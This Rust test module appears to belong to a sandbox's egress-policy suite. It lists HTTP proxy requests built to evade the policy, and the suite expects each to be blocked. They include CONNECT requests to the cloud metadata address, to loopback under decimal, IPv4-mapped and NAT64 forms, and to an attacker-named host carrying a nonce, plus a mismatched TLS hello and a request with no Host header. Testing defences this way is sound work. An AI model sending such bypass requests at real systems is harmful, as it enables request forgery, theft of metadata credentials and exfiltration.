//! The HTTP proxy, which is asked by name.

use std::net::{IpAddr, Ipv4Addr};

use omnirun_egress_policy::Reason;
use omnirun_guest_net::{GATEWAY_IP, PROXY_PORT};

use super::{
    Act, Expect, Table,
    control::request,
    hello::Hello,
    web::{NAMELESS, evil, in_pieces},
};
use crate::nonce::Nonce;

/// What the proxy says of an address that nobody may reach.
const SPECIAL: [Reason; 4] = [
    Reason::SpecialAddress,
    Reason::NotListed,
    Reason::NoAddress,
    Reason::NoName,
];

pub(super) fn fill(table: &mut Table<'_>) {
    addresses(table);
    names(table);
    pages(table);
}

/// Asks to be connected, and sends the nonce as soon as that may be.
fn connect(target: &str, nonce: Nonce) -> Act {
    let head = format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n");
    in_pieces(
        GATEWAY_IP,
        PROXY_PORT,
        [head.as_bytes(), nonce.hex().as_bytes()],
        200,
    )
}

/// Addresses, each with a port of its own: that is what the log tells them by.
fn addresses(table: &mut Table<'_>) {
    let world = table.world;
    let port = |at: usize| world.host_ports.get(at).copied().unwrap_or(4432);
    let mut targets: Vec<(&str, &'static [u8], IpAddr, u16)> = vec![
        ("address", &[3, 14], world.unlisted.address().into(), 4431),
        ("loopback", &[11], Ipv4Addr::LOCALHOST.into(), port(0)),
        ("metadata", &[10], Ipv4Addr::new(169, 254, 169, 254).into(), 80),
        (
            "ipv6",
            &[9, 10],
            [0xfd00, 0xec2, 0, 0, 0, 0, 0, 0x254].into(),
            8080,
        ),
        (
            "mapped",
            &[9, 10],
            [0, 0, 0, 0, 0, 0xffff, 0xa9fe, 0xa9fe].into(),
            8081,
        ),
        (
            "nat64",
            &[9, 10],
            [0x64, 0xff9b, 0, 0, 0, 0, 0xa9fe, 0xa9fe].into(),
            8082,
        ),
        ("gateway", &[11], GATEWAY_IP.into(), PROXY_PORT + 1),
    ];
    targets.extend(
        world
            .private
            .first()
            .map(|to| ("private", &[12][..], (*to).into(), 445)),
    );
    targets.extend(world.host.first().map(|to| ("host", &[11][..], *to, port(1))));
    for (id, bypass, to, port) in targets {
        let target = std::net::SocketAddr::new(to, port).to_string();
        table
            .add(
                format!("connect-{id}"),
                bypass,
                format!("ask the HTTP proxy to connect to {target}"),
                |nonce| connect(&target, nonce),
            )
            .expect(Expect::Local)
            .logged(&SPECIAL)
            .asked = Some(port);
    }
}

fn names(table: &mut Table<'_>) {
    let world = table.world;
    let (name, attacker) = (world.listed.name.as_str(), world.attacker.as_str());
    table
        .add(
            "connect-unlisted",
            &[14],
            "ask the HTTP proxy to connect to an attacker's name",
            |nonce| connect(&format!("{}:443", evil(attacker, nonce)), nonce),
        )
        .expect(Expect::Local)
        .logged(&[Reason::NotListed]);
    table
        .add(
            "connect-port",
            &[14],
            format!("ask the HTTP proxy to connect to {name}:4433, which is not listed"),
            |nonce| connect(&format!("{name}:4433"), nonce),
        )
        .expect(Expect::Local)
        .logged(&[Reason::PortNotListed, Reason::NotListed])
        .asked = Some(4433);
    table
        .add(
            "connect-localhost",
            &[11],
            "ask the HTTP proxy to connect to localhost",
            |nonce| connect("localhost:4434", nonce),
        )
        .expect(Expect::Local)
        .logged(&SPECIAL)
        .asked = Some(4434);
    table
        .add(
            "connect-number",
            &[9, 13],
            "ask the HTTP proxy to connect to 2130706433, which some read as 127.0.0.1",
            |nonce| connect("2130706433:4435", nonce),
        )
        .expect(Expect::Local)
        .logged(&NAMELESS)
        .anonymous = true;
    table
        .add(
            "connect-other-sni",
            &[1, 14],
            format!("ask it to connect to {name}, and there say a hello for an attacker's name"),
            |nonce| {
                let head = format!("CONNECT {name}:443 HTTP/1.1\r\nHost: {name}:443\r\n\r\n");
                let hello = Hello::new(nonce).name(&evil(attacker, nonce)).record();
                in_pieces(GATEWAY_IP, PROXY_PORT, [head.as_bytes(), &hello], 500)
            },
        )
        .expect(Expect::Local)
        .logged(&[Reason::NotListed, Reason::Malformed]);
}

/// Pages, without a connection of one's own.
fn pages(table: &mut Table<'_>) {
    let world = table.world;
    table
        .add(
            "proxy-unlisted",
            &[14],
            "ask it for a page of an attacker's",
            |nonce| {
                let host = evil(&world.attacker, nonce);
                let head = format!("GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n");
                Act::tcp(GATEWAY_IP, PROXY_PORT, head)
            },
        )
        .expect(Expect::Local)
        .logged(&[Reason::NotListed]);
    table
        .add(
            "proxy-relative",
            &[14],
            "ask it for a page of nobody's",
            |nonce| {
                let head = request(&world.listed.name, nonce).replace("Host: ", "X-Host: ");
                Act::tcp(GATEWAY_IP, PROXY_PORT, head)
            },
        )
        .expect(Expect::Local)
        .logged(&NAMELESS)
        .anonymous = true;
}
